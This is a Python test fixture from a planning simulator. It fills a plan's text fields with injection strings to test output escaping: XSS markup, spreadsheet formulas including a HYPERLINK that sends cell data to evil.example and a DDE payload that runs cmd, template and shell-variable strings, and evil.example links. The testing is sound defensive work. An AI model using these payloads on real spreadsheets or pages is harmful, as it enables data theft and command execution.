"""A year of a shipped plan whose every text means harm: markup, formulas, direction marks, emoji, a whole essay."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING

from short_plan import PLAN

from sfpc_sim.inputs.lookup import shipped_folder

if TYPE_CHECKING:
    from pathlib import Path

MARKUP = "<script>alert(1)</script>\"><img src=x onerror=alert(2)>' onfocus=alert(3) <b>bold</title><!-- &amp;"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"pay")'
FORMULAS = (FORMULA, "+1+1", "-2", "@SUM(A1)", "\t=1+1", "|cmd|' /C calc'!A0")
DIRECTION = "\N{RIGHT-TO-LEFT MARK}\N{HEBREW LETTER ALEF}\N{ARABIC LETTER BEH}\N{LEFT-TO-RIGHT MARK}"
EMOJI = "\N{POUTING FACE}\N{ZERO WIDTH JOINER}\N{FAMILY}"
MARKDOWN = "a | b \\| c `code` [link](http://evil.example) ![](http://evil.example/x.png) {{ config }} ${HOME} %s"
LINES = "one\n\n| --- |\n# two\tthree"
ESSAY = "unbroken" * 1_250  # 10,000 characters without a place to break
EVERYTHING = " ".join((FORMULA, MARKUP, *FORMULAS, DIRECTION, EMOJI, MARKDOWN))

# The texts of a plan that a reader meets, quoted: {0} stands on one line.
TEXTS = """
leaders-strained.title = {0}
benefits-below-cost.title = {0}
[requirements.filled]
title = {0}
rule = "chance(posts_filled_share on 2018-03-31 >= 90%) >= 50%"
[gates.satisfactory-progress]
title = {0}
[teams.res-bcm]
title = {0}
[posts.lrpc-lead]
title = {0}
[leaders.director]
title = {0}
[joint_roles]
kirklees-director.partner = {0}
kirklees-deputy.partner = {0}
kirklees-social-work.partner = {0}
[improvement.kirklees]
title = {0}
partner = {0}
[duties.inspection]
title = {0}
[grants.innovation]
title = {0}
[money.tables.res]
title = {0}
[assumptions.advert_live_weeks]
belief = {{ triangular = {{ low = 3, mode = 4, high = 6.5 }} }}
why = {1}
signed_off_by = {0}
signed_off_on = 2020-01-05
source = {{ ref = {1}, grade = "D" }}
"""


def write_hostile_plan(folder: Path, text: str = EVERYTHING, name: str = "hostile") -> Path:
    """Write a plan and its authority in a folder, `text` in place of every text in them."""
    line, lines = (json.dumps(words, ensure_ascii=False) for words in (text, f"{LINES} {text}"))  # as in TOML
    path = folder / f"{name}.toml"
    own = f'title = {line}\nquestion = {lines}\nauthority = "{name}"\n'
    path.write_text(own + PLAN + TEXTS.format(line, lines), encoding="utf-8")
    authority = (shipped_folder() / "authorities" / "leeds-2017.toml").read_text(encoding="utf-8")
    for key, said in (("name", line), ("source", lines)):
        authority = re.sub(rf'^{key} = ".*"$', lambda _, told=f"{key} = {said}": told, authority, flags=re.MULTILINE)
    (folder / "authorities").mkdir(exist_ok=True)
    (folder / "authorities" / f"{name}.toml").write_text(authority, encoding="utf-8")
    return path
